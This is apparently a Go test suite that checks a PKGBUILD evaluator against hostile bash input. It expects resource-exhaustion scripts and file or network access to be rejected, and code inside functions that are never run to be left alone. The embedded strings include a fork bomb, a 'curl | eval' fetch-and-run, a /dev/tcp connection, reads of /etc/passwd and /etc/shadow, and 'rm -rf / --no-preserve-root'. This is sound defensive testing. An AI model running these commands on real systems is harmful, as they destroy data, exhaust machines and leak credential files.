package pkgbuild

import (
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"
)

// TestHostile gives Evaluate files that mean harm. Each must end with an error
// of a kind that says why, soon and in bounded memory.
func TestHostile(t *testing.T) {
	const head = "pkgname=x\npkgver=1\npkgrel=1\narch=(any)\n"
	deep := func(open, inner, end string, n int) string {
		return strings.Repeat(open, n) + inner + strings.Repeat(end, n)
	}
	tests := map[string]string{
		"endless while":            "while :; do :; done",
		"endless for":              "for ((;;)); do :; done",
		"endless until":            "until false; do x=1; done",
		"endless arithmetic":       "while ((1)); do ((i++)); done",
		"endless eval":             `x='eval "$x"'; eval "$x"`,
		"endless recursion":        "f() { f; }; f",
		"mutual recursion":         "f() { g; }; g() { f; }; f",
		"recursion in substitute":  "f() { echo $(f); }; pkgver=$(f)",
		"fork bomb":                ":() { : | : & }; :",
		"source itself":            "source ./PKGBUILD",
		"doubling string":          "x=a; while :; do x=$x$x; done",
		"doubling append":          "x=a; while :; do x+=$x; done",
		"doubling array":           `a=(1); while :; do a+=("${a[@]}"); done`,
		"doubling here-string":     `x=aa; while :; do read -r y <<< "$x"; x=$y$y; done`,
		"doubling by substitution": `x=aa; while :; do x=$(echo "$x$x"); done`,
		"doubling by replacement":  `x=aa; while :; do x=${x//a/aa}; done`,
		"doubling by printf":       `x=aa; while :; do printf -v x '%s%s' "$x" "$x"; done`,
		"growing variables":        `x=$(printf '%01000000d' 1); for ((i=0;;i++)); do eval "v$i=\$x$i\$x"; done`,
		"many variables":           `for ((i=0;;i++)); do eval "v$i=1"; done`,
		"many functions":           `for ((i=0;;i++)); do eval "f$i() { :; }"; done`,
		"brace range":              "a=({1..1000000000})",
		"brace range step":         "a=({1..9223372036854775807..1})",
		"brace product":            "a=(" + strings.Repeat("{1..9}", 20) + ")",
		"brace comma product":      "a=(" + strings.Repeat("{a,b}", 40) + ")",
		"brace nesting":            "a=(" + deep("{a,", "b", "}", 5000) + ")",
		"printf width":             "printf -v x '%1000000000s' a",
		"printf star":              "printf -v x '%*s' 1000000000 a",
		"array index":              "a[99999999999999]=1",
		"sparse array":             "for ((i=0;;i+=1000)); do a[i]=1; done",
		"seq":                      "a=($(seq 1 1000000000))",
		"arithmetic loop":          "a=b; b=a; x=$((a))",
		"name reference loop":      "declare -n a=b; declare -n b=a; a=1; while :; do a=1; done",
		"pattern backtracking":     `shopt -s extglob` + "\n" + `x=` + strings.Repeat("a", 60) + `; while :; do [[ $x == *(*(*(a)))b ]]; done`,
		"pattern stars":            `x=` + strings.Repeat("a", 5000) + `; while :; do [[ $x == ` + strings.Repeat("*a", 200) + `b ]]; done`,
		"pattern replacement":      `x=$(printf '%0100000d' 1); y=${x//*0*1x/}`,
		"regular expression":       `[[ a =~ ` + deep("(", "a{1,999}", "){1,999}", 5) + ` ]]`,
		"regular expression size":  `[[ a =~ ` + strings.Repeat("a?", 10000) + ` ]]`,
		"deep parentheses":         deep("(", "true", ")", 100000),
		"deep substitution":        "x=" + deep("$(", "echo", ")", 100000),
		"deep quotes":              "x=" + deep(`"$(echo `, "a", `)"`, 50000),
		"deep parameters":          "x=" + deep("${a:-", "b", "}", 100000),
		"deep arithmetic":          "x=$((" + deep("(", "1", ")", 100000) + "))",
		"deep signs":               "x=$((" + strings.Repeat("-+", 100000) + "1))",
		"deep groups":              deep("{ ", ":; ", "}; ", 100000),
		"deep conditions":          "[[ " + deep("( ", "a", " )", 100000) + " ]]",
		"deep not":                 "[[ " + strings.Repeat("! ", 100000) + "a ]]",
		"deep if":                  deep("if true; then ", ":", "; fi", 50000),
		"long and-list":            "while :; do " + strings.Repeat("true && ", 10000) + "true; done",
		"heredoc":                  "while :; do cat <<E\n$(echo $x)\nE\ndone",
		"read of passwd":           "pkgdesc=$(</etc/passwd)",
		"cat of passwd":            "pkgdesc=$(cat /etc/passwd)",
		"source of passwd":         "source /etc/passwd",
		"source of parent":         "source ../secret",
		"source through link":      "source link",
		"read through link":        "pkgdesc=$(<link)",
		"mapfile of passwd":        "mapfile -t depends < /etc/passwd",
		"glob of etc":              "depends=(/etc/pass*)",
		"test of passwd":           "[[ -f /etc/passwd ]] && pkgver=2",
		"curl in version":          "pkgver=$(curl -s https://example.org)",
		"curl to shell":            `eval "$(curl -s https://example.org)"`,
		"network by bash":          "exec 3<>/dev/tcp/example.org/80; read -r pkgver <&3; depends=($pkgver)",
		"home":                     "pkgdesc=$HOME",
		"shadowed makepkg":         "get_pkgbuild_attribute() { :; }",
		"NUL":                      "x=a\x00b",
		"carriage return":          "x=a\r\n",
		"unterminated":             "x='",
		"trap":                     "trap 'pkgver=2' EXIT RETURN",
		"exit":                     "exit 0",
	}
	root := t.TempDir()
	if err := os.WriteFile(filepath.Join(root, "secret"), []byte("pkgdesc=secret\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	for name, script := range tests {
		t.Run(name, func(t *testing.T) {
			dir := filepath.Join(root, "pkg")
			if err := os.RemoveAll(dir); err != nil {
				t.Fatal(err)
			}
			writePKGBUILD(t, dir, head+script+"\n")
			if err := os.Symlink("../secret", filepath.Join(dir, "link")); err != nil {
				t.Fatal(err)
			}
			start := processorTime(t)
			info, err := Evaluate(t.Context(), dir, Options{})
			took := processorTime(t) - start
			if err == nil {
				t.Fatalf("no error, but %+v", info)
			}
			if !ours(err) {
				t.Errorf("error of no kind of ours: %T %v", err, err)
			}
			if strings.Contains(err.Error(), "secret\n") || strings.Contains(err.Error(), "root:") {
				t.Errorf("the error tells what is in a file outside: %v", err)
			}
			// The limit of time is five seconds on the clock, and the race detector
			// makes many times the work of it: this is about what never ends.
			if took > 15*time.Second {
				t.Errorf("took %v of processor time", took)
			}
			t.Logf("%v: %.100s", took, err)
		})
	}
	var memory runtime.MemStats
	runtime.ReadMemStats(&memory)
	if memory.Sys > 2<<30 {
		t.Errorf("the process grew to %d MiB", memory.Sys>>20)
	}
}

// ours reports whether the error is one that the package promises.
func ours(err error) bool {
	var syntax *SyntaxError
	var needs *NeedsEvaluation
	var limit *LimitError
	var lint *LintError
	return errors.As(err, &syntax) || errors.As(err, &needs) || errors.As(err, &limit) || errors.As(err, &lint)
}

// processorTime is what the process has used; unlike the time of day it does
// not depend on what else the machine does.
func processorTime(t *testing.T) time.Duration {
	t.Helper()
	var usage syscall.Rusage
	if err := syscall.Getrusage(syscall.RUSAGE_SELF, &usage); err != nil {
		t.Fatal(err)
	}
	return time.Duration(usage.Utime.Nano() + usage.Stime.Nano())
}

func writePKGBUILD(t testing.TB, dir, text string) {
	t.Helper()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "PKGBUILD"), []byte(text), 0o644); err != nil {
		t.Fatal(err)
	}
}

// TestHarmless are things that look like harm in the functions that makepkg
// never runs here, or that the answer does not depend on.
func TestHarmless(t *testing.T) {
	dir := t.TempDir()
	writePKGBUILD(t, dir, `pkgname=x
pkgver=1
pkgrel=1
arch=(any)
_jobs=$(nproc)
_host=$(hostname | tr a-z A-Z)
_home=~/build
_secret=$(</etc/shadow)
_n=$(curl -s https://example.org | while read -r x; do echo "$x"; done)
prepare() { while :; do :; done; }
package() { rm -rf / --no-preserve-root; cat /etc/passwd; f; }
`)
	info, err := Evaluate(t.Context(), dir, Options{})
	if err != nil || info.Version() != "1-1" {
		t.Errorf("got %+v, %v", info, err)
	}
}
